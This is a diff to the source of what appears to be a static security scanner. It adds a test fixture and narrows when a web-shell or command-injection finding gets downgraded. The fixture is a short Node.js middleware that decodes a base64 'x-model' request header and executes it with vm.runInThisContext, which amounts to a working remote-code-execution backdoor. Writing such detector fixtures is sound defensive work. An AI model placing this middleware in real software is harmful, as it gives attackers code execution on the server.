@@ -13,6 +13,24 @@ pub(super) static FINDING: Declaration = Declaration {
     references: &["CWE-78", "CWE-94", "CWE-506", "T1505.003"],
     examples: &[
         Example {
+            name: "a header is run as the body of a function",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"module.exports = (req, res, next) => {
+  const model = req.headers["x-model"];
+  if (!model) return next();
+  res.end(String(require("vm").runInThisContext("(function (q) {" + Buffer.from(model, "base64") + "})")(req)));
+};"#,
+                ),
+            ],
+        },
+        Example {
             name: "middleware with a command in a header",
             severity: Some(Severity::High),
             files: &[
@@ -90,7 +108,9 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         let part = flow.source.target.as_deref().unwrap_or("a request");
         let message = format!("{part} of a request is run by {}", flow.sink.id);
         let mut finding = Finding::of_flow(&FINDING, flow, message);
-        if flow.sink.target.as_deref().is_some_and(is_fixed) {
+        // Code may do anything, whatever is written around it.
+        let is_command = flow.id == "request-to-process";
+        if is_command && flow.sink.target.as_deref().is_some_and(is_fixed) {
             let note = "the request only adds to a command or code that is fixed".to_owned();
             finding.lower(Severity::Low, "fixed-command", note);
         }
